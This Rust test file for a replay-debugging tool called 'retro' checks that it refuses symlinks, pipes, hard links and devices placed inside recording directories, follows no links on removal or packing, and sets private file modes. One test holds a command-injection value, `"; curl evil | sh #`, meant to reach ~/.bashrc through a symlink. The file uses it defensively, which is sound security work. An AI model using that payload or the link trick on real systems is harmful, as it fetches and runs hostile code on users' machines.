//! Recordings sent as directories, in which names lead elsewhere: links, pipes, devices.
//!
//! Each is tried with everything that opens a recording. None may write, read or wait there, and whoever tries is told which
//! name it is.

use std::fs;
use std::os::unix::fs::{MetadataExt, symlink};
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use nix::sys::stat::{Mode, SFlag, makedev, mknod};
use nix::unistd::mkfifo;
use retro_testkit::compare::Ending;

use crate::place::{Place, assert_refused, is_root, printed, said};

/// Far less than anybody waits for a pipe.
const SOON: Duration = Duration::from_secs(20);

/// Commands that need the index, and one that does not.
const COMMANDS: [&[&str]; 4] = [
    &["bt", "-r", "recording"],
    &["index", "recording"],
    &["info", "recording"],
    &["verify", "recording"],
];

/// What lies in the place of a file.
#[derive(Clone, Copy, Debug)]
enum Trap {
    /// A link to something dear.
    Link,
    /// A link to nothing, which would be made.
    DanglingLink,
    /// A pipe that nobody writes to.
    Pipe,
    /// Another name of something dear.
    HardLink,
    /// A device that swallows everything.
    Device,
    /// A directory.
    Directory,
}

impl Trap {
    fn set(self, place: &Place, name: &str) {
        let at = place.recording().join(name);
        fs::create_dir_all(at.parent().unwrap()).unwrap();
        let _ = fs::remove_file(&at);
        match self {
            Trap::Link => symlink(place.victim(), at).unwrap(),
            Trap::DanglingLink => symlink(place.home().join("owned"), at).unwrap(),
            Trap::Pipe => mkfifo(&at, Mode::S_IRWXU).unwrap(),
            Trap::HardLink => fs::hard_link(place.victim(), at).unwrap(),
            Trap::Device => mknod(&at, SFlag::S_IFCHR, Mode::S_IRWXU, makedev(1, 3)).unwrap(),
            Trap::Directory => fs::create_dir(at).unwrap(),
        }
    }

    fn word(self) -> &'static str {
        match self {
            Trap::Link | Trap::DanglingLink => "a symbolic link",
            Trap::Pipe => "a named pipe",
            Trap::HardLink => "hard links",
            Trap::Device => "a device",
            Trap::Directory => "a directory",
        }
    }
}

/// Runs everything on a recording with a trap. Those whose commands need the file refuse it by its name; the others do
/// their work.
#[track_caller]
fn spring(trap: Trap, name: &str, refusing: &[&str]) {
    let place = Place::new("trap");
    place.honest();
    trap.set(&place, name);
    for command in COMMANDS {
        let begun = Instant::now();
        let outcome = place.retro(command);
        assert!(begun.elapsed() < SOON, "{command:?} waits: {:?}", begun.elapsed());
        let said = said(&outcome);
        if refusing.contains(&command[0]) {
            assert_refused(&outcome, &[name, trap.word()]);
        } else {
            let is_orderly = matches!(outcome.status, Ending::Exited(0 | 1));
            assert!(is_orderly && !said.contains("panicked"), "{command:?}: {said}");
        }
        place.assert_unharmed();
    }
}

macro_rules! traps {
    ($($test:ident: $trap:ident $name:literal $refusing:expr;)*) => {
        $(#[test]
        fn $test() {
            if !matches!(Trap::$trap, Trap::Device) || is_root(stringify!($test)) {
                spring(Trap::$trap, $name, &$refusing);
            }
        })*
    };
}

traps! {
    the_log_is_a_link: Link "log" ["bt", "index", "info", "verify"];
    the_log_is_a_pipe: Pipe "log" ["bt", "index", "info", "verify"];
    the_log_is_a_device: Device "log" ["bt", "index", "info", "verify"];
    the_copies_are_a_link: Link "files" ["bt", "index", "info", "verify"];
    the_list_of_copies_is_a_link: Link "files/catalogue" ["bt", "index", "info", "verify"];
    the_list_of_copies_is_a_pipe: Pipe "files/catalogue" ["bt", "index", "info", "verify"];
    the_index_is_a_link: Link "index" ["bt", "index", "info"];
    the_index_is_a_link_to_nothing: DanglingLink "index" ["bt", "index", "info"];
    the_index_is_a_pipe: Pipe "index" ["bt", "index", "info"];
    the_lock_is_a_link: Link "index/lock" ["bt", "index"];
    the_lock_is_a_link_to_nothing: DanglingLink "index/lock" ["bt", "index"];
    the_lock_is_another_name: HardLink "index/lock" ["bt", "index"];
    the_lock_is_a_pipe: Pipe "index/lock" ["bt", "index"];
    the_lock_is_a_device: Device "index/lock" ["bt", "index"];
    a_volume_is_a_link: Link "index/0-0" ["bt", "index", "info"];
    the_lock_of_a_volume_is_a_link: Link "index/0-0/lock" ["bt", "index"];
    the_lock_of_a_volume_is_another_name: HardLink "index/0-0/lock" ["bt", "index"];
    the_lock_of_a_volume_is_a_pipe: Pipe "index/0-0/lock" ["bt", "index"];
    the_manifest_is_a_link: Link "index/0-0/manifest" ["bt", "index", "info"];
    the_manifest_is_a_pipe: Pipe "index/0-0/manifest" ["bt", "index", "info"];
    the_manifest_is_a_device: Device "index/0-0/manifest" ["bt", "index", "info"];
    // Files that are made anew take the place of what is there.
    the_note_of_a_failure_is_a_link: Link "index/0-0/failure" [];
    the_note_of_a_failure_is_a_pipe: Pipe "index/0-0/failure" [];
    the_pages_are_a_link: Link "index/0-0/pages" [];
    the_pages_are_a_pipe: Pipe "index/0-0/pages" [];
    the_words_are_another_name: HardLink "index/0-0/words" [];
    the_last_result_is_a_link: Link "index/last-result" [];
    the_last_result_is_a_pipe: Pipe "index/last-result" [];
    the_notes_are_a_directory: Directory "notebook.json" [];
}

/// The attack that wrote a command into `~/.bashrc`: a link where the reason for a failure is noted, and a replay that fails
/// with chosen words.
#[test]
fn words_of_a_process_get_into_no_file_by_a_link() {
    let place = Place::new("bashrc");
    place.hostile("words", &["KIND=TELL_FAILED", r#"WORDS="; curl evil | sh #""#]);
    Trap::Link.set(&place, "index/0-0/failure");
    for command in [["bt", "-r", "recording"], ["info", "recording", "--json"]] {
        place.retro(&command);
        place.assert_unharmed();
    }
    // A note of ours is in the place of the link.
    let note = place.recording().join("index/0-0/failure");
    assert!(fs::symlink_metadata(note).unwrap().is_file());
}

/// `index -> elsewhere` put the index there.
#[test]
fn an_index_elsewhere_is_not_built() {
    let place = Place::new("elsewhere");
    place.honest();
    symlink(place.home(), place.recording().join("index")).unwrap();
    assert_refused(&place.retro(&["index", "recording"]), &["index", "a symbolic link"]);
    place.assert_unharmed();
    // Thrown away, the link is gone and not what it leads to.
    let outcome = place.retro(&["index", "--rebuild", "recording"]);
    assert_eq!(outcome.status, Ending::Exited(0), "{}", said(&outcome));
    place.assert_unharmed();
    assert!(fs::symlink_metadata(place.recording().join("index")).unwrap().is_dir());
}

/// A copy that is a link would put the file that it leads to into a pack, and be shown as source, or served.
#[test]
fn a_copy_that_is_a_link_is_not_packed() {
    let place = Place::new("pack");
    let program = compiled(&place, "int main(void) { return 0; }");
    record(&place, &program);
    assert!(place.retro(&["pack", "recording", "-o", "first.retro"]).status == Ending::Exited(0));
    let unpacked = place.retro(&["unpack", "first.retro", "-o", "received"]);
    assert_eq!(unpacked.status, Ending::Exited(0), "{}", said(&unpacked));
    let secret = place.home().join(".bashrc");
    for copy in fs::read_dir(place.path().join("received/files")).unwrap() {
        let copy = copy.unwrap().path();
        if copy.file_name().unwrap() != "catalogue" {
            fs::remove_file(&copy).unwrap();
            symlink(&secret, &copy).unwrap();
        }
    }
    let outcome = place.retro(&["pack", "received", "-o", "second.retro"]);
    assert!(said(&outcome).contains("it is a symbolic link"), "{}", said(&outcome));
    let packed = fs::read(place.path().join("second.retro")).unwrap();
    assert!(!packed.windows(8).any(|eight| eight == b"precious"));
    assert!(packed.len() < 100_000 || fs::metadata(&program).unwrap().len() > 100_000);
    assert_refused(&place.retro(&["import", "received", "-o", "third"]), &["a symbolic link"]);
    assert!(!place.path().join("third").exists());
}

/// A recording that was received names files of its own choice. None of this machine gets into a pack of it.
#[test]
fn a_received_recording_packs_no_file_of_this_machine() {
    let place = Place::new("names");
    let program = compiled(&place, "int main(void) { return 0; }");
    record(&place, &program);
    fs::write(place.recording().join("received"), "").unwrap();
    let outcome = place.retro(&["pack", "recording", "-o", "pack.retro"]);
    assert!(said(&outcome).contains("the recording was received without it"), "{}", said(&outcome));
    assert!(printed(&outcome).is_empty(), "{}", printed(&outcome));
}

/// `retro rm` removes what is in a recording, and nothing that its links lead to.
#[test]
fn removing_a_recording_follows_no_link() {
    let place = Place::new("rm");
    place.honest();
    fs::create_dir(place.recording().join("index")).unwrap();
    symlink(place.home(), place.recording().join("index/0-0")).unwrap();
    symlink(place.home(), place.recording().join("files")).unwrap();
    symlink(place.victim(), place.recording().join("notebook.json")).unwrap();
    let outcome = place.retro(&["rm", "./recording"]);
    assert_eq!(outcome.status, Ending::Exited(0), "{}", said(&outcome));
    assert!(!place.recording().exists());
    place.assert_unharmed();
}

/// Whatever the umask is, what is made is the user's alone.
#[test]
fn nothing_depends_on_the_umask() {
    for umask in ["000", "022", "077"] {
        let place = Place::new("umask");
        let command = format!(
            "umask {umask}; \"$0\" record --quiet -o recording -- true && \"$0\" bt -r recording --json >/dev/null; \
             \"$0\" goto 'end' -r recording >/dev/null; \"$0\" pack recording -o pack.retro && \
             \"$0\" unpack pack.retro && \"$0\" index pack && \"$0\" import recording"
        );
        let mut shell = place.command("sh");
        shell.args(["-c", &command]).arg(crate::place::retro_path());
        let outcome = retro_testkit::compare::run(&mut shell, crate::place::TIMEOUT);
        assert_eq!(outcome.status, Ending::Exited(0), "{umask}: {}", said(&outcome));
        let mut seen = 0;
        for root in [place.recording(), place.store(), place.path().join("pack.retro")] {
            check_modes(&root, &mut seen);
        }
        assert!(seen > 30, "only {seen} files");
    }
}

fn check_modes(path: &Path, seen: &mut u32) {
    let found = fs::symlink_metadata(path).unwrap();
    *seen += 1;
    if found.is_symlink() {
        return;
    }
    let expected = if found.is_dir() { 0o700 } else { 0o600 };
    assert_eq!(found.mode() & 0o7777, expected, "{}", path.display());
    if found.is_dir() {
        for entry in fs::read_dir(path).unwrap() {
            check_modes(&entry.unwrap().path(), seen);
        }
    }
}

fn compiled(place: &Place, source: &str) -> PathBuf {
    let (file, program) = (place.path().join("program.c"), place.path().join("program"));
    fs::write(&file, source).unwrap();
    let compiled =
        place.command("cc").arg("-g").arg(file).arg("-o").arg(&program).status().unwrap();
    assert!(compiled.success());
    program
}

fn record(place: &Place, program: &Path) {
    let recorded =
        place.retro(&["record", "--quiet", "-o", "recording", "--", program.to_str().unwrap()]);
    assert_eq!(recorded.status, Ending::Exited(0), "{}", said(&recorded));
}
